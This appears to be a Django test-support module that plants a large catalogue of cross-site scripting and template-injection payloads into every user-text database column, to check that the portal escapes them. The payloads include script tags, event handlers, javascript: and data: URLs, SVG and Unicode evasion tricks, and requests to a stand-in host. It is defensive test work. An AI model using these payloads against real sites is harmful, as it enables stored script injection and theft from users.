"""Script in every form people have smuggled it, and a world in which every text column holds all of it.

Each payload marks what it would become: an element or attribute ``data-planted``, an ``alert``, a request to
``planted.test``, or the word ``planted-ran`` where a template was evaluated.
"""

from __future__ import annotations

import itertools
import re
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from typing import Any

import pytest
from django.apps import apps
from django.db import IntegrityError, connection, models, transaction

from campaigns import append_only

#: By the place they break out of. None holds NUL, CR or LF: those are refused at the edge for every column.
PAYLOADS: dict[str, tuple[str, ...]] = {
    "html": (
        "<script data-planted>alert(1)</script>",
        "<ScRiPt data-planted>alert(1)</sCrIpT >",
        "<script data-planted src=//planted.test/a.js></script>",
        "<script data-planted src=/static/js/portal.js></script>",
        "<script data-planted type=module>import('//planted.test/m.js')</script>",
        "<script/data-planted>alert(1)</script>",
        "<<script data-planted>alert(1)//<</script>",
        "<img data-planted src=x onerror=alert(1)>",
        "<img data-planted/src/onerror=alert(1)>",
        "<img data-planted src='//planted.test/a.png'>",
        "<iframe data-planted src='javascript:alert(1)'></iframe>",
        "<iframe data-planted srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
        "<object data-planted data='data:text/html,<script>alert(1)</script>'></object>",
        "<embed data-planted src='javascript:alert(1)'>",
        "<base data-planted href='//planted.test/'>",
        "<meta data-planted http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<link data-planted rel=stylesheet href=//planted.test/a.css>",
        "<form data-planted action=//planted.test/><button autofocus>Gửi</button></form>",
        "<details data-planted open ontoggle=alert(1)>",
        "<video data-planted><source onerror=alert(1)></video>",
        "<input data-planted autofocus onfocus=alert(1)>",
        "<marquee data-planted onstart=alert(1)>",
        "<div data-planted hx-get='/' hx-trigger=load hx-on:click=alert(1)>",
        "<p data-planted popover onbeforetoggle=alert(1) id=planted>",
        "<!--><b data-planted>-->",
        "<![CDATA[><b data-planted>]]>",
        "<b data-planted",
    ),
    "attribute": (
        '" data-planted onmouseover=alert(1) x="',
        "' data-planted onmouseover=alert(1) x='",
        " data-planted onmouseover=alert(1) ",
        "` data-planted onmouseover=alert(1) ",
        '"><b data-planted>',
        "'><b data-planted>",
        '" data-planted autofocus onfocus="alert(1)',
        '" data-planted style="background:url(//planted.test/a)',
        '" data-planted hx-on::load="alert(1)',
    ),
    "address": (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        " javascript:alert(1)",
        "javascript://planted.test/%0Aalert(1)",
        "data:text/html,<script data-planted>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "//planted.test/a",
        "https://planted.test/\" data-planted x=\"",
    ),
    "svg": (
        "<svg data-planted onload=alert(1)>",
        "<svg data-planted><script>alert(1)</script></svg>",
        "<svg><a data-planted xlink:href=javascript:alert(1)><text>a</text></a></svg>",
        "<svg><animate data-planted onbegin=alert(1) attributeName=x dur=1s></svg>",
        "<svg><style data-planted>@import'//planted.test/a.css'</style></svg>",
        "</text><script data-planted>alert(1)</script>",
        "<math><mtext><table><mglyph><style><b data-planted>",
    ),
    "template": (
        '{{ "planted-"|add:"ran" }}',
        "{% debug %}{% load static %}",
        '{% templatetag openblock %}{{ "planted-"|add:"ran"|safe }}',
        "${alert(1)}#{alert(1)}",
        "%(planted)s {planted} %s %d",
    ),
    "style": (
        "</style><b data-planted>",
        "};body{background:url(//planted.test/a)}",
        "x;background-image:url(//planted.test/b);",
        "expression(alert(1))",
    ),
    "script": (
        "</script><script data-planted>alert(1)</script>",
        "<!--<script data-planted>",
        "';alert(1)//",
        '";alert(1)//',
        "\\';alert(1)//",
        "\u2028alert(1)\u2029",
        '"}]}</script><b data-planted>',
    ),
    "characters": (
        "\u202e<b data-planted>\u202c",
        "<\u200bscript data-planted>alert(1)</script>",
        "\uff1cscript data-planted\uff1ealert(1)\uff1c/script\uff1e",
        "\ufeff<b data-planted>",
        "&lt;b data-planted&gt;",
        "&#60;b data-planted&#62;",
        "%3Cb data-planted%3E",
        "\\u003cb data-planted\\u003e",
    ),
}  # fmt: skip
CORPUS = tuple(itertools.chain(*PAYLOADS.values()))
#: Codes stand in addresses, where a ``?``, ``#`` or ``/`` would end them.
IN_A_CODE = "\"'><b data-planted>"
#: Columns that only the portal writes: digests, keys, states, folded copies of other columns, canonical JSON that is
#: made of planted rows, media types, and where an installation's library keeps its own.
OF_THE_PORTAL = re.compile(
    r"(\.(\w*sha256|\w*digest|\w*hash|checksum|salt|key|\w+_key|search_text|action|subject_type|topic|lease_owner|hint"
    r"|message_id|password|content|data|source|content_type|file_type|small|picture_small|scopes|codename|model"
    r"|app_label|object_id|typed\w*|query|url|params|lines|detail|figures|areas|summary|payload|result|layout)$)"
    r"|^(sessions|contenttypes|auth|mfa|socialaccount|usersessions|account|axes)\."
)


def columns() -> list[models.Field[Any, Any]]:
    """Every column that holds words of people."""
    return [
        field
        for model in apps.get_models()
        for field in model._meta.local_concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not field.choices
        and not OF_THE_PORTAL.search(name_of(field))
    ]


def name_of(field: models.Field[Any, Any]) -> str:
    """The column's name with its table's."""
    return f"{field.model._meta.label_lower}.{field.name}"


class Planting:
    """Puts as much of the corpus into each value as its column holds, another payload first each time.

    Some work only at the start; so in one world each payload starts many values, in a long text all stand.
    """

    def __init__(self) -> None:
        self.fields = {field: f"cot{number}cot" for number, field in enumerate(columns())}
        self.planted: set[models.Field[Any, Any]] = set()
        self.turn = 0

    def value(self, field: models.Field[Any, Any], before: str) -> str:
        """What stands in the column from now on."""
        if field.name == "code":
            return f"{before}{self.fields[field]}{IN_A_CODE}"[: field.max_length]
        self.turn += 1
        start = self.turn % len(CORPUS)
        first, *others = CORPUS[start:] + CORPUS[:start]
        room = field.max_length or 100_000
        # What breaks out of text and attributes stands in every value that has room.
        breaks = IN_A_CODE if room >= 60 else ""
        kept = [text for text in (first, self.fields[field], breaks, before) if text]
        for other in others:
            if len(" ".join(kept)) + len(other) < room:
                kept.insert(-1, other)
        return " ".join(kept)[:room]

    def rest(self) -> None:
        """Plant in what migrations brought and in what was left empty, where a rule of the table allows words."""
        append_only.drop(connection)  # undone with the rows
        for field, tag in self.fields.items():
            for row in field.model._base_manager.exclude(**{f"{field.name}__contains": tag}):
                before = getattr(row, field.name)
                if before is not None:
                    with suppress(IntegrityError), transaction.atomic():
                        rows = field.model._base_manager.filter(pk=row.pk)
                        rows.update(**{field.name: self.value(field, before)})
                        self.planted.add(field)


@contextmanager
def planted(patch: pytest.MonkeyPatch) -> Iterator[Planting]:
    """Whatever row is made in this block holds the corpus in every column of people's words."""
    planting = Planting()

    def pre_save(self: models.Field[Any, Any], instance: models.Model, add: bool) -> Any:
        value = getattr(instance, self.attname)
        if add and value and self in planting.fields and planting.fields[self] not in value:
            value = planting.value(self, value)
            planting.planted.add(self)
            setattr(instance, self.attname, value)
        return value

    with patch.context() as inner:
        inner.setattr(models.CharField, "pre_save", pre_save)
        inner.setattr(models.TextField, "pre_save", pre_save)
        yield planting
